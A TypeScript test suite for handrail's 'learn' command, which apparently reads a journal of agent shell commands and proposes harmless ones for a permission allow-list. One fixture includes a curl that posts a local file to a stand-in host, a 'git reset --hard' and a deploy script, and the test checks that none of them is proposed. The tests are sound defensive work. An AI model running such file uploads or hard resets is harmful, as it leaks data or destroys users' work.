import assert from 'node:assert/strict'
import { mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, type TestContext, test } from 'node:test'
import { journaledProject } from '../history/fixtures/project.ts'
import { learn } from './learn.ts'

const place = async (t: TestContext, commands: Readonly<Record<string, number>>) => {
  const project = journaledProject(t)
  let next = 0
  const run = async (command: string, times: number) => {
    for (let index = 0; index < times; index += 1) {
      next += 1
      await project.happens(`id${String(next).padStart(6, '0')}`, command)
    }
  }
  for (const [command, times] of Object.entries(commands)) await run(command, times)
  const json = async (...args: readonly string[]) =>
    JSON.parse((await project.run(learn, ['--json', ...args])).out.join('\n'))
  return { ...project, json }
}

const names = (rows: readonly { readonly command: string; readonly times: number }[]) =>
  rows.map(({ command, times }) => `${times} ${command}`)

describe('handrail learn', () => {
  test('proposes what is known to be harmless, with counts, and writes nothing', async t => {
    const { root, json, run } = await place(t, {
      'npm test': 4,
      'mkdir -p src/x': 3,
      'mkdir docs': 1,
      './deploy.sh now': 9,
      'git reset --hard': 5,
      'curl -d @notes.txt https://x.test': 6,
    })
    const before = readdirSync(root)
    const found = await json()
    assert.deepEqual(names(found.commands), ['4 npm test', '3 mkdir -p src/x'])
    assert.deepEqual(found.settings.rules, ['Bash(npm test)', 'Bash(mkdir -p src/x)'])
    assert.equal(found.settings.times, 7)
    assert.match(found.config.diff, /^\+\s+"review": \{$/m)
    assert.match(found.config.diff, /^\+\s+"level": "develop"$/m)
    assert.equal(found.seen.stopped, 0)
    assert.ok(!JSON.stringify(found).includes('reset'))
    const { out } = await run(learn, [])
    assert.match(out.join('\n'), /Nothing was written/)
    assert.deepEqual(readdirSync(root), before)
  })

  test('--min and --since narrow it down', async t => {
    const { json } = await place(t, { 'npm test': 4, 'mkdir docs': 1 })
    assert.deepEqual(names((await json('--min', '1')).commands), ['4 npm test', '1 mkdir docs'])
    assert.deepEqual((await json('--min', '5')).commands, [])
    assert.deepEqual((await json('--since', '2030-01-01')).commands, [])
  })

  test('what was passed once and is stopped today is not proposed', async t => {
    const { root, json, agree } = await place(t, { 'npm test': 4 })
    const rules = { 'git/*': 'on', 'review/*': 'on', 'packages/manager': 'deny' }
    const config = { rules, package_managers: { javascript: 'bun' } }
    writeFileSync(join(root, 'handrail.jsonc'), JSON.stringify(config))
    agree()
    const found = await json()
    assert.deepEqual([found.commands, found.seen.stopped], [[], 4])
  })

  test('once it is in the config there is nothing left to propose', async t => {
    const { root, json, run, agree } = await place(t, { 'npm test': 4 })
    writeFileSync(join(root, 'handrail.jsonc'), '{\n  // ours\n  "review": { "level": "read" }\n}\n')
    assert.match((await json()).config.diff, /^\+ {2}"review": \{ "level": "develop" \}$/m)
    writeFileSync(join(root, 'handrail.jsonc'), '{ "review": { "level": "develop" } }')
    agree()
    const found = await json()
    assert.deepEqual([found.commands, found.config, found.seen.approved], [[], undefined, 4])
    assert.match((await run(learn, [])).out.join('\n'), /Nothing to propose/)
  })

  test('the host’s own file keeps what is in it', async t => {
    const { root, json } = await place(t, { 'npm test': 4, 'mkdir -p src/x': 3, 'mkdir -p "a b"': 3 })
    const file = join(root, '.claude/settings.local.json')
    mkdirSync(join(root, '.claude'))
    const text = '{\n  // mine\n  "permissions": { "allow": ["Bash(npm test)"] }\n}\n'
    writeFileSync(file, text)
    const { settings } = await json()
    assert.deepEqual(settings.rules, ['Bash(mkdir -p src/x)'])
    assert.match(settings.diff, /^\+ .*"Bash\(npm test\)", ?"Bash\(mkdir -p src\/x\)"/m)
    assert.equal(readFileSync(file, 'utf8'), text)
  })
})
